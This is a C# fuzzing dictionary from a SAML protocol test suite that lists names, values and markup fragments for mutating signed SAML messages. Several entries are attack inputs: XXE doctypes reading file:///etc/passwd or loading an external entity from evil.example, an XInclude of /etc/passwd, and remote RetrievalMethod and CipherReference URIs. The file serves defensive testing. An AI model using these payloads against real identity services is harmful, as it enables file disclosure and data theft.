using System.Text;
using RunBroker.TestIdps;

namespace RunBroker.Protocol.Tests.Saml.Fuzz;

/// <summary>What the mutations put in: names and values that mean something to somebody.</summary>
internal static class Words
{
    public static readonly string[] Signed = ["Response", "Assertion", "LogoutRequest", "EntityDescriptor"];
    public static readonly string[] IdNames = ["Id", "id", "ID", "AssertionID", "xml:id", "iD"];

    public static readonly string[] Names =
    [
        "Response", "Assertion", "EncryptedAssertion", "Signature", "SignedInfo", "Reference", "Object", "Extensions", "Advice", "Subject", "NameID", "EncryptedID",
        "AttributeValue", "Attribute", "AttributeStatement", "Status", "StatusDetail", "Conditions", "assertion", "x", "LogoutRequest", "SessionIndex", "KeyDescriptor",
    ];

    public static readonly string[] AttributeNames =
        ["ID", "Id", "id", "Name", "FriendlyName", "Format", "Destination", "InResponseTo", "Recipient", "NotOnOrAfter", "NotBefore", "Value", "URI", "Algorithm", "Type", "x"];

    public static readonly string[] Prefixes = ["saml", "saml2", "samlp", "saml2p", "ds", "dsig", "xs", "xsi", "e", "xml", "xmlns", "", "x"];

    public static readonly string[] Namespaces =
    [
        SamlUris.Assertion, SamlUris.Protocol, SamlUris.Dsig, SamlUris.Enc, SamlUris.Enc11, SamlUris.Xs, SamlUris.Xmlns, "http://www.w3.org/XML/1998/namespace", "", "urn:x",
        SamlUris.Assertion + " ", SamlUris.Assertion.ToUpperInvariant(), "urn:oasis:names:tc:SAML:1.0:assertion", SamlUris.Dsig + "#",
    ];

    public static readonly string[] AlgorithmUris =
    [
        SamlUris.ExcC14n, SamlUris.ExcC14nWithComments, SamlUris.C14n, SamlUris.Enveloped, SamlUris.Md5, SamlUris.Sha1, SamlUris.Sha256, SamlUris.Sha512, SamlUris.RsaSha1,
        SamlUris.RsaSha256, SamlUris.RsaSha512, SamlUris.PssSha256, SamlUris.EcdsaSha256, SamlUris.HmacSha256, SamlUris.DsaSha1, SamlUris.Aes128Gcm, SamlUris.Aes256Gcm,
        SamlUris.Aes128Cbc, SamlUris.Aes256Cbc, SamlUris.TripleDesCbc, SamlUris.OaepMgf1p, SamlUris.Oaep11, SamlUris.Rsa15, "", "System.Security.Cryptography.HMACSHA256",
        "http://www.w3.org/TR/1999/REC-xpath-19991116", "http://www.w3.org/TR/1999/REC-xslt-19991116", "http://www.w3.org/2002/07/decrypt#XML",
    ];

    public static readonly string[] Values =
    [
        "", " ", "victim", "anna-0", "_request", "#", "#_request", "http://evil.example/", "file:///etc/passwd", Corpus.Idp, Corpus.Sp, Corpus.Acs, Corpus.Idp + "/", "2.0", "1.1",
        "2099-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "99999-01-01T00:00:00Z", "2026-05-01T12:00:00", "AAAA", "!", "\u202e", "a\r\nb",
        "urn:oasis:names:tc:SAML:2.0:cm:bearer", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key", "urn:oasis:names:tc:SAML:2.0:status:Success", "xs saml", "#default",
    ];

    public static readonly string[] Snippets =
    [
        $"<ds:Object xmlns:ds=\"{SamlUris.Dsig}\"/>", $"<ds:Manifest xmlns:ds=\"{SamlUris.Dsig}\"/>", $"<ds:SignedInfo xmlns:ds=\"{SamlUris.Dsig}\"/>",
        $"<ds:Reference xmlns:ds=\"{SamlUris.Dsig}\" URI=\"\"/>", $"<ds:KeyInfo xmlns:ds=\"{SamlUris.Dsig}\"><ds:RetrievalMethod URI=\"http://evil.example/\"/></ds:KeyInfo>",
        $"<ds:Transform xmlns:ds=\"{SamlUris.Dsig}\" Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::*)</ds:XPath></ds:Transform>",
        $"<ds:DigestValue xmlns:ds=\"{SamlUris.Dsig}\">AAAA</ds:DigestValue>", $"<ds:HMACOutputLength xmlns:ds=\"{SamlUris.Dsig}\">0</ds:HMACOutputLength>",
        $"<samlp:Extensions xmlns:samlp=\"{SamlUris.Protocol}\"/>", $"<saml:Advice xmlns:saml=\"{SamlUris.Assertion}\"/>",
        $"<saml:NameID xmlns:saml=\"{SamlUris.Assertion}\">victim</saml:NameID>", $"<saml:Subject xmlns:saml=\"{SamlUris.Assertion}\"><saml:NameID>victim</saml:NameID></saml:Subject>",
        $"<saml:Attribute xmlns:saml=\"{SamlUris.Assertion}\" Name=\"email\"><saml:AttributeValue>victim@tagoio.example</saml:AttributeValue></saml:Attribute>",
        $"<saml:OneTimeUse xmlns:saml=\"{SamlUris.Assertion}\"/>", $"<saml:Condition xmlns:saml=\"{SamlUris.Assertion}\"/>",
        $"<e:EncryptedKey xmlns:e=\"{SamlUris.Enc}\"/>", $"<e:CipherReference xmlns:e=\"{SamlUris.Enc}\" URI=\"http://evil.example/\"/>",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
    ];

    public static readonly string[] Doctypes =
    [
        "<!DOCTYPE x>", "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "<!doctype x>", "<!-- --><!DOCTYPE x>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>", "<!DOCTYPE x [<!ATTLIST x ID ID #IMPLIED>]>",
    ];

    public static readonly string[] Entities = ["&a;", "&amp;", "&lt;", "&#0;", "&#65;", "&#xD;", "&#x110000;", "&#xD800;", "&", "%p;", "&#x0000000041;"];
    public static readonly string[] PrefixesUsed = ["saml:", "samlp:", "saml2:", "saml2p:", "ds:", "md:", "e:"];
    public static readonly string[] OtherPrefixes = ["saml:", "samlp:", "ds:", "x:", ":", "xml:", "xmlns:", ""];

    public static readonly string[] Declarations =
    [
        "<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"utf-8\"?>", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>", "<?xml version=\"1.1\"?>",
        "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>", "<?xml version=\"1.0\" standalone=\"yes\"?>", " <?xml version=\"1.0\"?>", "\uFEFF", "\uFEFF\uFEFF",
    ];

    public static readonly string[] Markup =
    [
        "<", ">", "</", "/>", "<!--", "-->", "<!-- x -->", "<![CDATA[", "]]>", "<![CDATA[x]]>", "<?x", "?>", "<?x y?>", "<x/>", "\"", "'", "=", "xmlns=\"\"", "\0", "\u0001",
        "\u0085", "\u2028", "\ufffe", "\ud800", "\U0001F600", "\r", "\t",
    ];

    public static readonly byte[][] Octets = [[0], [0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xef, 0xbb, 0xbf], [0xe2, 0x82], [0x0d], [0x7f]];
    public static readonly Encoding[] Encodings = [Encoding.Unicode, Encoding.BigEndianUnicode, Encoding.UTF32, Encoding.Latin1];
}
